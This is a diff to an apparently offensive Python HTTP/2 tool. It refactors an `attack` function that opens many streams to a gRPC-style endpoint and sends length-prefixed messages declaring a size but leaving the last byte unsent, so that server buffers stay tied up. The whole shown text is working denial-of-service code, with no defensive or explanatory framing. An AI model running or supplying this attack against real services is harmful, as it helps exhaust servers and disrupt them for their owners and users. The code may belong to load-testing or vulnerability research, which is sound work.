@@ -154,10 +154,6 @@ class Http2:
         self.send(_HEADERS, _END_HEADERS, stream, block)
         return stream
 
-    def write(self, stream: int, size: int, head: bytes = b"") -> int:
-        """Send as many zeros of `size` as the windows allow; return how many bytes went."""
-        return self.push(stream, head + bytes(max(0, min(size, self._max_frame - len(head)))))
-
     def push(self, stream: int, data: bytes | memoryview) -> int:
         """Send as much of `data` as the windows allow; return how many bytes went."""
         room = min(self.window, self.windows.get(stream, 0), self._max_frame)
@@ -267,23 +263,22 @@ def _incomplete(
     `first` is the message of a stream before it.
     """
     prefix = struct.pack(">BI", 0, len(first)) + first if first else b""
-    prefix += struct.pack(">BI", 0, size)
 
     def attack(connection: Http2) -> None:
-        left: dict[int, int] = {}
+        message = memoryview(prefix + struct.pack(">BI", 0, size) + bytes(size - 1))
+        sent: dict[int, int] = {}  # bytes, by stream
         while True:
-            while len(left) < calls:
-                left[connection.open(path, metadata)] = size
+            while len(sent) < calls:
+                sent[connection.open(path, metadata)] = 0
             went = 0
-            for stream in list(left):
+            for stream in list(sent):
                 if stream not in connection.windows:
-                    del left[stream]
+                    del sent[stream]
                     continue
-                head = prefix if left[stream] == size else b""
-                sent = connection.write(stream, left[stream] - 1, head)
-                left[stream] -= max(0, sent - len(head))
-                went += sent
-            if went == 0 or any(stream not in connection.windows for stream in left):
+                more = connection.push(stream, message[sent[stream] :])
+                sent[stream] += more
+                went += more
+            if went == 0 or any(stream not in connection.windows for stream in sent):
                 with contextlib.suppress(TimeoutError):
                     connection.read()
 
